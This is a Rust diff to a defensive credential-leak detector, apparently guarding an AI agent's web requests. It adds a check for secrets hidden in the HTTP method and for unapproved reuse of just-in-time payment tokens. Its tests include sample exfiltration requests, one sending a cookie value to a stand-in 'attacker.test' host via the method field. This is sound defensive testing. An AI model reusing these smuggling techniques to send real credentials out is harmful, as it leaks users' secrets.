@@ -65,6 +65,8 @@ pub enum Location {
     Header(String),
     /// In the body.
     Body,
+    /// In the HTTP method (a page may send any token as its method).
+    Method,
 }
 
 impl Location {
@@ -75,6 +77,7 @@ impl Location {
             Location::Host => "host".into(),
             Location::Header(h) => format!("header:{}", h.to_ascii_lowercase()),
             Location::Body => "body".into(),
+            Location::Method => "method".into(),
         }
     }
 }
@@ -177,11 +180,14 @@ pub fn decide(req: &Request<'_>, vault: &Vault, unlisted: UnlistedCredentials) -
     let host = req.url.host_str().unwrap_or("");
     let site = site_of(host.trim_start_matches('[').trim_end_matches(']'));
     let home = vault.credential_for_site(&site);
+    // A just-in-time credential's values belong to its site only on the request a human
+    // approved: anywhere else, its own site included, a copy the page made of them is a leak.
+    let exempt = home.filter(|&i| !vault.credentials()[i].on_approval || req.context.approved);
 
-    if let Some(detector) = vault.detector_for(home) {
+    if let Some(detector) = vault.detector_for(exempt) {
         if let Some((location, finding)) = find_leak(detector, req) {
             let credential = vault
-                .owner_of_finding(home, finding.secret)
+                .owner_of_finding(exempt, finding.secret)
                 .unwrap_or("?")
                 .to_string();
             return Decision::Exfiltration {
@@ -350,6 +356,8 @@ fn find_leak(
     let host = req.url.host_str().unwrap_or("");
     all.extend(host.bytes().filter(|&b| b != b'.'));
     all.push(b'\n');
+    all.extend_from_slice(req.method.as_bytes());
+    all.push(b'\n');
     all.extend_from_slice(req.url.as_str().as_bytes());
     for (name, value) in req.headers {
         all.push(b'\n');
@@ -396,6 +404,9 @@ fn locate_leak(
     }
     if let Some(f) = detector.find(req.url.as_str().as_bytes()) {
         return Some((Location::Url, f));
+    }
+    if let Some(f) = detector.find(req.method.as_bytes()) {
+        return Some((Location::Method, f));
     }
     for (name, value) in req.headers {
         if let Some(f) = detector
@@ -577,6 +588,49 @@ mod tests {
             Decision::Continue {
                 injected: None,
                 withheld: Some(0),
+                ..
+            }
+        ));
+    }
+
+    #[test]
+    fn a_held_value_as_the_method_is_exfiltration() {
+        let v = vault();
+        let u = url("http://attacker.test/m");
+        let mut r = req(&u, &[], same_site());
+        let method = format!("X{COOKIE}");
+        r.method = &method;
+        assert!(matches!(
+            decide(&r, &v, UnlistedCredentials::Strip),
+            Decision::Exfiltration {
+                location: Location::Method,
+                ..
+            }
+        ));
+    }
+
+    #[test]
+    fn a_page_made_copy_of_a_just_in_time_value_is_a_leak_unless_approved() {
+        let m = Mandate::from_json(
+            r#"{"agent":"a","ttl_secs":60,"credentials":[
+              {"id":"pay","site":"shop.test","on_approval":true,
+               "headers":{"X-Pay-Token":"PAYTOKEN-55aa77bb"}}]}"#,
+        )
+        .unwrap();
+        let v = Vault::new(&m.credentials, FingerprintKey::random()).unwrap();
+        let u = url("http://shop.test/checkout");
+        // Reflected to the page once, set by the page on a request nobody approved.
+        let hs = h(&[("X-Pay-Token", "PAYTOKEN-55aa77bb")]);
+        assert!(matches!(
+            decide(&req(&u, &hs, same_site()), &v, UnlistedCredentials::Strip),
+            Decision::Exfiltration { .. }
+        ));
+        let mut ctx = same_site();
+        ctx.approved = true;
+        assert!(matches!(
+            decide(&req(&u, &hs, ctx), &v, UnlistedCredentials::Strip),
+            Decision::Continue {
+                injected: Some(_),
                 ..
             }
         ));
